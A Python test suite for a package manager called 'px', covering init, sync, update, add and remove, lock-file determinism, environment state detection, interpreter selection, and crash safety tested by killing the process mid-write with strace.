#!/usr/bin/python3
"""project.py [--as UID] [--only NAME...] PX - px init, sync and status: states, locks, environments, errors, without a network.

Wheels are made here; pip (python3-pip) resolves them from a directory, and tests that need it skip where it is missing. PX and what lies
beside it are copied to where any user can reach them. Prints `ok NAME`, `not ok NAME: why`, `skip NAME: why`, and last
"N passed, N failed, N skipped".
"""

import hashlib
import http.server
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import threading
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.dont_write_bytecode = True
from cases import WITHOUT_REASON, Skip, check, drive, test  # noqa: E402  (beside this file)
from race import Race, outside_of, words_of  # noqa: E402
from wheels import make_wheel  # noqa: E402

LIMIT_S = 300
PROGRAMS = ("px", "px-main", "px-layer", "px-fetch", "px-net")
HASH = "0123456789abcdef" * 4
PYTHON = "/usr/bin/python3.11"


def equal(got, expected, what):
    check(got == expected, f"{what}: {got!r} and not {expected!r}")


def tree(directory):
    """Every file and link below a directory with its bytes."""
    found = {}
    for path in sorted(directory.rglob("*")):
        name = str(path.relative_to(directory))
        found[name] = os.readlink(path) if path.is_symlink() else path.read_bytes() if path.is_file() else None
    return found


class World:
    """A project's directory, a PX_HOME, and a directory with wheels that pip is told of."""

    def __init__(self, px, top):
        self.px, self.top = px, Path(top)
        self.dir, self.home, self.wheels = (self.top / name for name in ("demo", "home", "wheels"))
        for path in (self.dir, self.wheels, self.top / "user"):
            path.mkdir()
        self.variables = {"PX_HOME": str(self.home), "HOME": str(self.top / "user"), "PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8",
                          "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(self.wheels)}

    def run(self, *words, cwd=None, **variables):
        return subprocess.run([self.px, *words], cwd=cwd or self.dir, env={**self.variables, **variables}, capture_output=True, text=True,
                              stdin=subprocess.DEVNULL, timeout=LIMIT_S, check=False)

    def ask(self, *words, status=0, **more):
        done = self.run("--json", *words, **more)
        equal(done.returncode, status, f"exit status of {words}: {done.stdout[-600:]}{done.stderr[-600:]}")
        answer = json.loads(done.stdout)
        check(set(answer) >= {"status", "message", "details"}, f"the envelope of {words}: {sorted(answer)}")
        check(answer["message"].startswith(f"px {words[0]}: "), f"the message of {words}: {answer['message']}")
        return answer

    def refused(self, *words, code, reason=None, **more):
        answer = self.ask(*words, status=1, **more)
        equal((answer["status"], answer["details"]["code"]), ("user-error", code), f"{words}: {answer}")
        if reason:
            equal(answer["details"]["reason"], reason, f"reason of {words}")
        check((answer["details"]["why"] or code in WITHOUT_REASON) and answer["details"]["fix"], f"{words}: no why or fix")
        return answer

    def state(self, **more):
        done = self.run("--json", "status", **more)
        return json.loads(done.stdout)["project"]["state"]

    def manifest(self, dependencies=(), more="", directory=None, name="demo"):
        listed = ", ".join(json.dumps(d) for d in dependencies)
        ((directory or self.dir) / "pyproject.toml").write_text(
            f'[project]\nname = "{name}"\nrequires-python = ">=3.11"\ndependencies = [{listed}]\n\n[tool.px]\n{more}')

    def stock(self):
        """alpha 1.0 and 2.0, which need beta; beta 1.5 and 2.5."""
        if subprocess.run(["/usr/bin/python3", "-I", "-m", "pip", "--version"], capture_output=True, check=False).returncode:
            raise Skip("pip is not installed (python3-pip)")
        make_wheel(self.wheels, "alpha", "1.0", ["beta>=1", "gamma; sys_platform == 'win32'"])
        make_wheel(self.wheels, "alpha", "2.0", ["beta>=2"])
        make_wheel(self.wheels, "beta", "1.5")
        make_wheel(self.wheels, "beta", "2.5")

    def lock(self):
        return (self.dir / "px.lock").read_text()


# ---- init ------------------------------------------------------------------------------------------------------------


@test
def init_makes_a_project(w):
    w.refused("status", code="PX100", reason="no_project")
    equal(w.ask("init")["details"]["created"], True, "created")
    text = (w.dir / "pyproject.toml").read_text()
    check('name = "demo"' in text and text.endswith("\n[tool.px]\n"), text)
    equal(w.state(), "NeedsLock", "state")
    again = w.ask("init")["details"]
    equal((again["created"], again["changed"]), (False, False), "a second init")
    equal((w.dir / "pyproject.toml").read_text(), text, "the file after a second init")
    equal(sorted(p.name for p in w.dir.iterdir()), ["pyproject.toml"], "files")


@test
def init_leaves_what_is_there_alone(w):
    for before in ("# mine\n[project]\nname='x' # name\n\n\n", "[project]\r\nname = 'x'\r\n", "[tool.ruff]\nline-length = 1", "",
                   "tool = {ruff = {a = 1}}\n"):
        path = w.dir / "pyproject.toml"
        path.write_bytes(before.encode())
        path.chmod(0o640)
        equal(w.ask("init")["details"]["changed"], True, f"changed {before!r}")
        after = path.read_bytes().decode()
        check(after.startswith(before.rstrip("}\n")), f"{before!r} became {after!r}")
        equal(path.stat().st_mode & 0o777, 0o640, "mode")
        check("\r\n" not in before or "\n" not in after.replace("\r\n", ""), f"line ends: {after!r}")
        w.ask("init")
        equal(path.read_bytes().decode(), after, "a second init")


@test
def init_refuses_what_it_cannot_read(w):
    path = w.dir / "pyproject.toml"
    path.write_text("[project\n")
    answer = w.refused("init", code="PX102")
    check("pyproject.toml:1:" in answer["message"], answer["message"])
    equal(path.read_text(), "[project\n", "the file")
    (w.dir / "real.toml").write_text("[project]\n")
    path.unlink()
    path.symlink_to("real.toml")
    w.refused("init", code="PX007")
    equal((w.dir / "real.toml").read_text(), "[project]\n", "what a link leads to")


# ---- states ----------------------------------------------------------------------------------------------------------


@test
def states_in_their_order(w):
    w.stock()
    w.manifest(["alpha<2"])
    equal(w.state(), "NeedsLock", "without a lock")
    equal(w.ask("sync", "--dry-run")["details"]["action"], "resolve_lock", "dry run")
    equal(sorted(p.name for p in w.dir.iterdir()), ["pyproject.toml"], "files after a dry run")
    done = w.ask("sync")
    equal(done["message"], "px sync: wrote px.lock and refreshed the environment", "message")
    equal(w.state(), "Consistent", "after sync")
    status = w.ask("status")
    equal(status["details"]["env"], status["env"], "the payload twice")
    equal((status["lock"]["status"], status["env"]["status"], status["next_action"]["kind"]), ("clean", "clean", "none"), "words")
    equal(w.ask("sync")["message"], "px sync: already up to date", "second sync")
    equal(w.ask("sync", "--dry-run")["details"]["action"], "noop", "dry run")
    w.manifest(["alpha<2", "beta<2"])
    status = w.ask("status", status=1)
    equal((status["project"]["state"], status["lock"]["status"], status["status"]), ("NeedsLock", "mismatch", "user-error"), "drift")
    check("the lock has beta 2.5, the manifest asks for beta<2" in status["project"]["reasons"], status["project"]["reasons"])
    w.ask("sync")
    check("beta==1.5" in w.lock(), w.lock())
    shutil.rmtree(w.dir / ".px")
    status = w.ask("status", status=1)
    equal((status["project"]["state"], status["env"]["status"], status["env"]["reason"]), ("NeedsEnv", "missing", "missing_env"), "no .px")
    equal(w.ask("sync", "--dry-run")["details"]["action"], "sync_env", "dry run")
    equal(w.ask("sync")["message"], "px sync: refreshed the environment from px.lock", "message")


@test
def update_moves_what_is_named(w):
    w.stock()
    w.manifest(["alpha"])
    w.ask("sync")
    equal([row for row in ("alpha==2.0", "beta==2.5") if row in w.lock()], ["alpha==2.0", "beta==2.5"], "the lock")
    equal(w.ask("update")["message"], "px update: nothing is newer than what px.lock has", "at once")
    make_wheel(w.wheels, "alpha", "2.1", ["beta>=2"])
    make_wheel(w.wheels, "beta", "2.6")
    before = w.lock()
    equal(w.ask("sync")["details"]["action"], "noop", "sync moves nothing")
    w.refused("update", code="PX120", reason="frozen", CI="1")
    w.refused("update", "delta", code="PX002")
    equal(w.run("update", "alpha", "--system").returncode, 2, "both")
    equal(w.lock(), before, "the lock after what was refused")
    done = w.ask("update", "Beta")
    equal(done["details"]["changed"], [{"name": "beta", "from": "2.5", "to": "2.6"}], "what changed")
    equal(done["message"], "px update: beta 2.5 -> 2.6", "message")
    check("alpha==2.0" in w.lock() and w.state() == "Consistent", w.lock())
    equal([row["name"] for row in w.ask("update")["details"]["changed"]], ["alpha"], "the rest")
    check("alpha==2.1" in w.lock() and w.state() == "Consistent", w.lock())
    (w.dir / "px.lock").rename(w.dir / "px.lock.away")
    (w.dir / "requirements.txt").write_text(f"alpha==2.1 --hash=sha256:{HASH}\nbeta==2.6 --hash=sha256:{HASH}\n")
    w.refused("update", code="PX120", reason="foreign_lock")
    w.refused("update", "--system", code="PX120", reason="foreign_lock")


@test
def an_empty_project_is_consistent(w):
    w.manifest()
    equal(w.state(), "NeedsLock", "at first")
    w.ask("sync", PATH="/nowhere")
    equal(w.state(), "InitializedEmpty", "state")
    equal(w.run("status").returncode, 0, "exit status")


@test
def a_lock_alone_is_no_project(w):
    (w.dir / "px.lock").write_text("version = 1\n")
    status = w.ask("status", status=1)
    equal((status["project"]["state"], status["next_action"]["kind"]), ("Uninitialized", "init"), "state")
    w.refused("sync", code="PX100", reason="missing_manifest")


@test
def the_environment_works_and_is_watched(w):
    w.stock()
    w.manifest(["alpha<2"])
    details = w.ask("sync")["details"]
    state = json.loads((w.dir / ".px/state.json").read_text())
    env = Path(state["current_env"]["env_path"])
    equal((str(env), env.name), (details["env"], details["profile_oid"]), "env")
    equal(os.readlink(w.dir / ".px/envs/current"), str(env), "where .px/envs/current leads")
    equal((w.dir / ".px/.gitignore").read_text(), "*\n", ".gitignore")
    if Path("/usr/bin/python3.11").exists():
        said = subprocess.run([str(env / "bin/python"), "-c", "import alpha, beta; print(alpha.version, beta.version)"], capture_output=True,
                              text=True, check=False, cwd="/", timeout=LIMIT_S)
        equal(said.stdout.strip(), "1.0 2.5", f"what it runs: {said.stderr}")
    cases = {"invalid_state": "{", "env_outdated": ("lock_id", "0" * 64), "missing_env": ("env_path", str(w.top / "gone")),
             "invalid_env": ("profile_oid", "0" * 64)}
    for reason, change in cases.items():
        broken = json.loads(json.dumps(state))
        if isinstance(change, tuple):
            broken["current_env"][change[0]] = change[1]
        (w.dir / ".px/state.json").write_text(change if isinstance(change, str) else json.dumps(broken))
        status = w.ask("status", status=1)
        equal((status["project"]["state"], status["env"]["reason"]), ("NeedsEnv", reason), "state")
    broken = {**state, "runtime": {**state["runtime"], "version": "3.9.1"}}
    (w.dir / ".px/state.json").write_text(json.dumps(broken))
    equal(w.ask("status", status=1)["env"]["reason"], "runtime_mismatch", "another Python")
    w.ask("sync")
    equal(json.loads((w.dir / ".px/state.json").read_text()), state, "the state after sync")
    package = (Path(state["current_env"]["site_packages"]) / "px.pth").read_text().splitlines()[0]
    os.rename(Path(package).parent, w.top / "taken")
    equal(w.ask("status", status=1)["env"]["reason"], "invalid_env", "a package that is gone")
    w.ask("sync")
    equal(w.state(), "Consistent", "after it was brought back")


@test
def P19_sandbox_settings_are_not_in_the_lock(w):
    w.stock()
    w.manifest(["alpha"])
    w.ask("sync")
    lock = w.lock()
    w.manifest(["alpha"], more="[tool.px.sandbox.capabilities]\npostgres = true\n")
    equal(w.state(), "Consistent", "state")
    w.ask("sync")
    equal(w.lock(), lock, "the lock")


@test
def P2_P19_the_base_is_the_sandboxs_alone(w):
    """Whatever [tool.px.sandbox] says, this machine's environment is what it was; who needs the base is told what is wrong with it."""
    if not Path(PYTHON).exists():
        raise Skip(f"there is no {PYTHON} here")
    w.stock()
    w.manifest(["alpha"])
    w.ask("sync")
    kept = w.lock(), (w.dir / ".px/state.json").read_bytes()
    for base in ("alpine-3.20", "debian-13", "does-not-exist", "./nowhere", "../outside", "127.0.0.1:1/team/base:1", "debain-12"):
        w.manifest(["alpha"], more=f'[tool.px.sandbox]\nbase = "{base}"\n')
        equal(w.state(), "Consistent", f"state with {base}")
        for words in (("sync",), ("sync", "--frozen")):
            equal(w.ask(*words)["details"]["action"], "noop", f"{words} with {base}")
        equal(w.run("run", "--frozen", "python", "-c", "import alpha; print(alpha.__name__)").stdout, "alpha\n", f"run with {base}")
        equal((w.lock(), (w.dir / ".px/state.json").read_bytes()), kept, f"lock and state with {base}")
    answer = w.refused("run", "--sandbox", "python", code="PX900", reason="unknown_base")
    check('Is it "debian-12"?' in answer["details"]["fix"][0], f"{answer['details']['fix']}")
    check("px knows debian-12, debian-13, alpine-3.20;" in answer["details"]["fix"][2], f"{answer['details']['fix']}")
    for directory in (".px", "px.lock"):
        path = w.dir / directory
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    w.ask("sync")
    equal((w.lock(), w.state()), (kept[0], "Consistent"), "made anew with a base that does not exist")


def python_refused(w, words, code="PX900"):
    """What it says, also of commands of two words."""
    done = w.run("--json", *words)
    answer = json.loads(done.stdout)
    equal((done.returncode, answer["status"], answer["details"]["code"]), (1, "user-error", code), f"{words}: {answer}")
    check(answer["details"]["why"] and answer["details"]["fix"], f"{words}: no why or fix")
    equal(answer["details"]["reason"] == "python_version", code == "PX900", f"reason of {words}: {answer}")
    return answer["message"]


@test
def the_base_has_the_python_that_is_asked_for(w):
    def manifest(range_, more=""):
        (w.dir / "pyproject.toml").write_text(f'[project]\nname = "demo"\nrequires-python = "{range_}"\n[tool.px]\n{more}')

    ways = (("sync",), ("sync", "--dry-run"), ("run", "python", "-V"), ("run", "--sandbox", "python", "-V"), ("pack", "image"),
            ("sandbox", "build"), ("explain", "run", "python"))
    for range_, more, asked in ((">=4", "", ">=4"), ("<3.8", "", "<3.8"), (">=3.11", 'python = "3.39"\n', "3.39")):
        manifest(range_, more)
        for words in ways:
            said = python_refused(w, words)
            check(said.endswith(f"the base 'debian-12' has Python 3.11.2, and the project asks for {asked}"), f"{words}: {said}")
        status = w.ask("status", status=1)
        check(f"the base 'debian-12' has Python 3.11.2, and the project asks for {asked}" in status["project"]["reasons"], f"{status}")
    equal(sorted(path.name for path in w.dir.iterdir()), ["pyproject.toml"], "files")
    boxed = [words for words in ways if "--sandbox" in words or words[0] == "sandbox"]
    for range_, more, asked in ((">=3.12", "", ">=3.12"), (">=3.11", 'python = "3.13"\n', "3.13")):
        manifest(range_, more)
        for words in boxed:
            said = python_refused(w, words)
            check(said.endswith(f"the base 'debian-12' has Python 3.11.2, and the project asks for {asked}"), f"{words}: {said}")
        fix = json.loads(w.run("--json", *boxed[0]).stdout)["details"]["fix"]
        equal(fix[0], 'Write base = "debian-13" in [tool.px.sandbox]: it has Python 3.13.5.', "the base that fits")
        status = w.ask("status", status=1)
        check(any("--sandbox needs another base" in line for line in status["warnings"]), f"{status['warnings']}")
        equal(status["runtime"]["version"].rpartition(".")[0], "3.13", "what the lock would be for")
    manifest("banana")
    for words in (*ways, ("status",)):
        said = python_refused(w, words, code="PX102")
        check(said.endswith("pyproject.toml:3: 'requires-python' is not a range of versions"), f"{words}: {said}")
    manifest(">=3.12", '[tool.px.sandbox]\nbase = "alpine-3.20"\n')
    w.ask("sync", "--dry-run")
    manifest(">=3.11", 'python = "3.11"\n')
    w.ask("sync")
    equal(w.state(), "InitializedEmpty", "state")


@test
def an_environment_for_another_python_is_not_clean(w):
    w.stock()
    (w.dir / "requirements.txt").write_text("alpha==1.0\nbeta==2.5\n")
    w.manifest(["alpha<2"])
    w.ask("sync")
    equal(w.state(), "Consistent", "state")
    path = w.dir / "pyproject.toml"
    path.write_text(path.read_text().replace(">=3.11", ">=4"))
    before = tree(w.dir)
    status = w.ask("status", status=1)
    equal((status["project"]["state"], status["env"]["reason"]), ("NeedsEnv", "runtime_mismatch"), "state")
    for words in (("sync",), ("sync", "--frozen"), ("run", "--frozen", "python", "-V"), ("pack", "image")):
        python_refused(w, words)
    equal(tree(w.dir), before, "the project")


# ---- locks -----------------------------------------------------------------------------------------------------------


@test
def a_lock_has_nothing_of_this_machine(w):
    w.stock()
    w.manifest(["alpha<2"])
    w.ask("sync")
    lock = w.lock()
    check(str(w.top) not in lock, lock)
    digest = hashlib.sha256((w.wheels / "alpha-1.0-py3-none-any.whl").read_bytes()).hexdigest()
    check(f'filename = "alpha-1.0-py3-none-any.whl"\nsha256 = "{digest}"' in lock, lock)
    check('requires = ["beta"]' in lock, lock)
    check(lock.index('name = "alpha"') < lock.index('name = "beta"'), "the order")
    other = w.top / "elsewhere"
    shutil.copytree(w.dir, other, ignore=shutil.ignore_patterns(".px", "px.lock"))
    w.ask("sync", cwd=other)
    equal((other / "px.lock").read_text(), lock, "the lock of the same project elsewhere")


@test
def extras_are_selected_by_name(w):
    w.stock()
    make_wheel(w.wheels, "delta", "1")
    lists = '\n[project.optional-dependencies]\nWeb_App = ["alpha<2"]\nfast = ["delta"]\nall = ["demo[web-app, fast]"]\n'
    w.manifest(more=lists)
    w.ask("sync")
    check("[[dependencies]]" not in w.lock(), "extras that nobody selects")
    for selected, names in (('"web.app"', {"alpha", "beta"}), ('"fast"', {"delta"}), ('"all"', {"alpha", "beta", "delta"})):
        w.manifest(more=lists + f"[tool.px.dependencies]\nextras = [{selected}]\n")
        equal(w.state(), "NeedsLock", f"state with {selected}")
        w.ask("sync")
        equal({line.split('"')[1] for line in w.lock().split("\n") if line.startswith("name = ")} - {"demo"}, names, f"the lock with {selected}")
        equal(w.state(), "Consistent", f"state after sync with {selected}")
    for more, fix in ((lists + '[tool.px.dependencies]\nextras = ["fats"]\n', "Write fast."),
                      (lists + '[tool.px.dependencies]\nextra = ["fast"]\n', "Write extras."),
                      ('\n[dependency-groups]\ndev = []\n[tool.px.dependencies]\ninclude-groups = ["dve"]\n', "Write dev.")):
        w.manifest(more=more)
        equal(w.refused("sync", code="PX102")["details"]["fix"], [fix], "the name that was meant")


WRITTEN = """# mine
[project]
name = "demo"
requires-python = ">=3.11"
dependencies = [
    # first of all
    "Alpha<2",  # old
    "delta"
]

[tool.px]
"""


@test
def dependencies_are_added_and_removed_in_place(w):
    w.stock()
    for name in ("delta", "eps.ilon"):
        make_wheel(w.wheels, name, "1")
    path = w.dir / "pyproject.toml"
    for end in ("\n", "\r\n"):
        path.write_bytes(WRITTEN.replace("\n", end).encode())
        w.ask("sync")
        done = w.ask("add", "eps_ilon>=1", "alpha")
        equal((done["details"]["requirements"], done["details"]["changed"]), (["eps_ilon>=1", "alpha"], True), "what was added")
        equal(done["message"], "px add: added eps_ilon>=1, alpha to pyproject.toml; wrote px.lock and refreshed the environment", "message")
        text = WRITTEN.replace('"Alpha<2",', '"alpha",').replace('"delta"\n', '"delta",\n    "eps_ilon>=1"\n')
        equal(path.read_bytes().decode(), text.replace("\n", end), "the manifest after add")
        check("alpha==2.0" in w.lock() and "eps-ilon==1" in w.lock() and w.state() == "Consistent", w.lock())
        equal(w.ask("add", "alpha")["details"]["changed"], False, "once more")
        equal(w.ask("remove", "DELTA", "alpha")["details"]["requirements"], ["DELTA", "alpha"], "what was removed")
        text = WRITTEN.replace('    "Alpha<2",  # old\n    "delta"\n', '    "eps_ilon>=1"\n')
        equal(path.read_bytes().decode(), text.replace("\n", end), "the manifest after remove")
        check("alpha" not in w.lock() and w.state() == "Consistent", w.lock())
        w.ask("add", "--group", "dev", "delta")
        equal(path.read_bytes().decode(), (text + '\n[dependency-groups]\ndev = ["delta"]\n').replace("\n", end), "a group")
        w.ask("remove", "--group", "DEV", "delta")
        equal(path.read_bytes().decode(), (text + "\n[dependency-groups]\ndev = []\n").replace("\n", end), "without it")


@test
def what_cannot_be_added_leaves_everything(w):
    w.stock()
    w.manifest(["alpha<2"])
    w.refused("add", "nobody-has-it", code="PX120")
    check(not (w.dir / "px.lock").exists(), "a lock was left")
    w.ask("sync")
    before = {name: (w.dir / name).read_bytes() for name in ("pyproject.toml", "px.lock")}
    for words, code in ((("add", "nobody-has-it"), "PX120"), (("add", "beta<2", "alpha>=2"), "PX120"), (("add", "=bad="), "PX002"), (("remove", "beta"), "PX002"),
                        (("remove", "alpha<2"), "PX002"), (("remove", "--group", "dev", "alpha"), "PX002")):
        w.refused(*words, code=code)
        equal({name: (w.dir / name).read_bytes() for name in before}, before, f"files after {words}")
    w.refused("add", "beta", code="PX120", CI="1")
    equal({name: (w.dir / name).read_bytes() for name in before}, before, "files after CI")
    equal(w.refused("remove", "alhpa", code="PX002")["details"]["fix"], ["Write alpha."], "the name that was meant")
    equal(w.state(), "Consistent", "state")
    (w.dir / "pyproject.toml").write_text('[tool.px.workspace]\nmembers = ["libs/core"]\n')
    (w.dir / "libs/core").mkdir(parents=True)
    w.manifest(directory=w.dir / "libs/core", name="core")
    equal(w.refused("add", "beta", code="PX102")["details"]["reason"], "no_member", "the root of a workspace")
    w.ask("add", "beta", cwd=w.dir / "libs/core")
    check('dependencies = ["beta"]' in (w.dir / "libs/core/pyproject.toml").read_text(), "the member's manifest")
    equal(w.state(), "WConsistent", "state of the workspace")


def killed(w, nth, *words):
    """px, killed as it is about to do its nth rename; all of them up to then. Without nth it is let live."""
    log = w.top / "renames"
    strace = ["strace", "-qq", "-o", str(log), "-e", "trace=renameat", *(["-e", f"inject=renameat:signal=KILL:when={nth}"] if nth else [])]
    done = subprocess.run([*strace, w.px, *words], cwd=w.dir, env=w.variables, capture_output=True, text=True, stdin=subprocess.DEVNULL,
                          timeout=LIMIT_S, check=False)
    check(nth or done.returncode == 0, f"{words}: {done.stderr}")
    return [line.split('"')[3] for line in log.read_text().splitlines() if line.startswith("renameat(")]


@test
def a_killed_add_leaves_manifest_and_lock_together(w):
    """Whichever of its files px was about to write: both are as before, or the manifest is the new one and so is the lock."""
    w.stock()
    if not shutil.which("strace") or subprocess.run(["strace", "-qq", "-o", "/dev/null", "true"], capture_output=True, check=False).returncode:
        raise Skip("there is no strace here, or it may not trace")
    manifest, lock = w.dir / "pyproject.toml", w.dir / "px.lock"
    w.manifest(["alpha<2"])
    w.ask("sync")
    seen = set()
    for words, found in ((("add", "beta<2"), "beta==1.5"), (("remove", "alpha"), "")):
        before = manifest.read_bytes(), lock.read_bytes()
        w.ask(*words)                           # so that the store has everything
        manifest.write_bytes(before[0]), lock.write_bytes(before[1])
        names = killed(w, 0, *words)
        after = manifest.read_bytes(), lock.read_bytes()
        check(after[0] != before[0] and after[1] != before[1], "nothing was changed")
        for nth, name in enumerate(names, 1):
            if name not in ("next.lock", "pyproject.toml", "px.lock"):
                continue
            manifest.write_bytes(before[0]), lock.write_bytes(before[1])
            w.ask("sync")
            killed(w, nth, *words)
            now = manifest.read_bytes(), lock.read_bytes()
            seen.add((now[0] == after[0], now[1] == after[1]))
            check(now[0] in (before[0], after[0]) and now[1] in (before[1], after[1]), "a file is half written")
            check(now[0] == after[0] or now[1] == before[1], f"before {name} the lock is new and the manifest is not")
            check(w.state() in ("Consistent", "NeedsEnv"), f"before {name}: {w.state()}")
            w.ask("sync", CI="1")               # nothing is resolved: what is there fits
            equal((manifest.read_bytes(), lock.read_bytes()), now, "a frozen sync wrote")
            w.ask("sync")
            equal((manifest.read_bytes(), lock.read_bytes()), after if now[0] == after[0] else before, "after a sync")
            check(not (w.dir / ".px/next.lock").exists() and w.state() in ("Consistent", "InitializedEmpty"), "something is left")
        manifest.write_bytes(after[0]), lock.write_bytes(after[1])
        check(found in w.lock(), w.lock())
    check((True, False) in seen and (False, False) in seen, f"it was not killed where it was to be: {seen}")


@test
def what_a_killed_px_left_is_not_for_another_manifest(w):
    """.px/next.lock counts while it is made for the manifest and px.lock is not: what a person wrote since stands."""
    w.stock()
    w.manifest(["alpha<2", "beta"])
    w.ask("sync")
    left = w.lock()
    w.manifest(["alpha<2"])
    w.ask("sync")
    now = w.lock()
    (w.dir / ".px/next.lock").write_text(left)
    equal(w.state(), "Consistent", "the manifest has its lock")
    w.manifest(["alpha<3"])
    equal(w.state(), "NeedsLock", "the manifest has none")
    w.manifest(["alpha<2", "beta"])
    check(w.state() in ("Consistent", "NeedsEnv"), "what was left is for this manifest")
    w.ask("add", "alpha")
    check("beta==2.5" in w.lock() and "alpha==2.0" in w.lock() and not (w.dir / ".px/next.lock").exists(), w.lock())
    w.manifest(["alpha<2"])
    (w.dir / "px.lock").write_text(now)
    for text in ("{", left.replace("version = 1", "version = 9", 1), ""):
        (w.dir / ".px/next.lock").write_text(text)
        check(w.state() in ("Consistent", "NeedsEnv"), "what cannot be read")
    w.ask("sync")
    check(not (w.dir / ".px/next.lock").exists() and w.lock() == now, "after a sync")


@test
def wheels_in_the_project_are_named_by_their_path(w):
    w.stock()
    (w.dir / "my wheels").mkdir()
    make_wheel(w.dir / "my wheels", "delta", "1")
    w.manifest(["delta"])
    w.ask("sync", PIP_FIND_LINKS="file://" + str(w.dir / "my%20wheels"))
    check('url = "my wheels/delta-1-py3-none-any.whl"' in w.lock(), w.lock())
    shutil.rmtree(w.home)
    shutil.rmtree(w.dir / ".px")
    w.ask("sync", "--frozen", PIP_FIND_LINKS="")
    equal(w.state(), "Consistent", "state, from the path in the lock alone")


@test
def pips_own_settings_count(w):
    w.stock()
    config = w.top / "user/.config/pip"
    config.mkdir(parents=True)
    (config / "pip.conf").write_text(f"[global]\nno-index = true\nfind-links = {w.wheels}\n")
    w.manifest(["alpha"])
    for name in ("PIP_NO_INDEX", "PIP_FIND_LINKS"):
        del w.variables[name]
    w.ask("sync")
    check("alpha==2.0" in w.lock(), w.lock())
    equal(w.state(), "Consistent", "state")


@test
def the_manifest_chooses_the_python(w):
    """Its own words first; and a base where neither this machine nor another base has such a Python."""
    w.stock()
    tags = {"3.11": "cp311-cp311-manylinux_2_17_x86_64", "3.12": "cp312-cp312-musllinux_1_2_x86_64", "3.13": "cp313-cp313-manylinux_2_17_x86_64"}
    for tag in (*tags.values(), "cp310-cp310-manylinux_2_17_x86_64"):
        make_wheel(w.wheels, "epsilon", "1", tag=tag)
    asked = ["epsilon", "beta; python_version >= '3.12'"]
    alpine = '[tool.px.sandbox]\nbase = "alpine-3.20"\n'
    for more, python in (("", "3.11"), (alpine, "3.11"), ('python = "3.13"\n', "3.13"), (f'python = "3.13"\n{alpine}', "3.13"),
                         (f'python = "3.12"\n{alpine}', "3.12")):
        (w.dir / "px.lock").unlink(missing_ok=True)
        w.manifest(asked, more=more)
        if python == "3.12" and shutil.which("python3.12", path="/usr/bin:/usr/local/bin"):
            continue
        w.ask("sync")
        check(f'filename = "epsilon-1-{tags[python]}.whl"' in w.lock(), f"{more}: {w.lock()}")
        equal('name = "beta"' in w.lock(), python != "3.11", f"what is not for 3.11, with {more}")
        equal(w.state(), "Consistent", f"state with {more}")
    w.manifest(asked)
    w.ask("sync")
    w.manifest(asked, more=alpine)
    answer = w.refused("run", "--sandbox", "python", code="PX900", reason="lock_python")
    equal(answer["message"], "px run: px.lock has no file of epsilon 1 for Python 3.12 of the base alpine-3.20", "a lock for another Python")
    check('python = "3.12" in [tool.px]' in answer["details"]["fix"][0], f"{answer}")


def put_python(w, directory, minor=12):
    """An interpreter of this machine under another name: what it says of itself is not read by running it."""
    directory.mkdir(parents=True)
    shutil.copy2(PYTHON, directory / f"python3.{minor}")
    return directory


@test
def interpreters_of_this_machine(w):
    """On PATH, by a link, of uv; not one of the project, not one that others write, not one without the interpreter's lock, not a script."""
    if not Path(PYTHON).exists() or any(shutil.which("python3.12", path=place) for place in ("/usr/bin", "/usr/local/bin")):
        raise Skip(f"{PYTHON} is not here, or Python 3.12 is")
    w.manifest(more='python = "3.12"\n')
    uv = w.top / "user/.local/share/uv/python"
    put_python(w, uv / "cpython-3.12.4+freethreaded-linux-x86_64-gnu/bin")
    put_python(w, w.dir / "bin")
    (w.top / "shims").mkdir()
    (w.top / "shims/python3.12").write_text("#!/bin/sh\nexit 1\n")
    (w.top / "shims/python3.12").chmod(0o755)
    inside = f"{w.dir}/bin:bin:{w.top}/shims:/usr/bin:/bin"
    python_refused(w, ("sync",))
    equal(json.loads(w.run("--json", "sync", PATH=inside).stdout)["details"]["reason"], "python_version", "one of the project")
    put_python(w, w.top / "opt/bin")
    (w.top / "links").mkdir()
    (w.top / "links/python3.12").symlink_to("../opt/bin/python3.12")
    put_python(w, uv / "cpython-3.12.9-linux-x86_64-gnu/bin")
    newest = put_python(w, uv / "cpython-3.12.10-linux-x86_64-gnu/bin")
    other = put_python(w, w.top / "managed/cpython-3.12.1-linux-x86_64-gnu/bin")
    seen = set()
    for variables, directory in (({}, newest), ({"UV_PYTHON_INSTALL_DIR": str(w.top / "managed")}, other),
                                 ({"PATH": f"{w.top}/links:/usr/bin:/bin"}, w.top / "opt/bin")):
        w.ask("sync", **variables)
        status = w.ask("status", **variables)
        equal((status["project"]["state"], status["runtime"]["path"], status["runtime"]["base"]),
              ("InitializedEmpty", str(directory / "python3.12"), "host"), f"{variables}")
        equal(w.run("run", "--frozen", "python", "-c", "import sys; print(len(sys.prefix) > 9)", **variables).stdout, "True\n", f"run, {variables}")
        seen.add(status["env"]["profile_oid"])
    equal(len(seen), 3, "environments: which interpreter it is for is part of what one is")
    w.refused("run", "--frozen", "python", code="PX201", reason="runtime_mismatch")
    if not Path("/usr/bin/python3.13").exists():
        path = w.dir / "pyproject.toml"
        before = path.read_text()
        path.write_text('[project]\nname = "demo"\nrequires-python = ">=3.12"\n[tool.px]\n')
        w.ask("sync")
        fix = w.refused("run", "python", code="PX201", reason="runtime_missing")["details"]["fix"]
        check("--sandbox" in fix[0] and "`uv python install 3.13`" in fix[1] and 'python = "3.12" in [tool.px]' in fix[2], f"where only a base has it: {fix}")
        path.write_text(before)
        w.ask("sync")
    shutil.rmtree(uv)
    (w.top / "opt/bin/python3.12").chmod(0o757)
    equal(json.loads(w.run("--json", "run", "python", PATH=f"{w.top}/links:/usr/bin:/bin").stdout)["details"]["reason"], "python_version", "one that others write")


@test
def packages_that_cannot_be_compiled_are_there(w):
    """A Python without its library beside it compiles nothing: its environment is made all the same, and px says so."""
    w.stock()
    if not Path(PYTHON).exists() or any(shutil.which("python3.12", path=place) for place in ("/usr/bin", "/usr/local/bin")):
        raise Skip(f"{PYTHON} is not here, or Python 3.12 is")
    path = f"{put_python(w, w.top / 'opt/bin')}:/usr/bin:/bin"
    w.manifest(["alpha<2"], more='python = "3.12"\n')
    done = w.run("sync", PATH=path)
    check(done.returncode == 0 and "packages are left without byte code" in done.stderr, f"{done}")
    equal(w.state(PATH=path), "Consistent", "state")
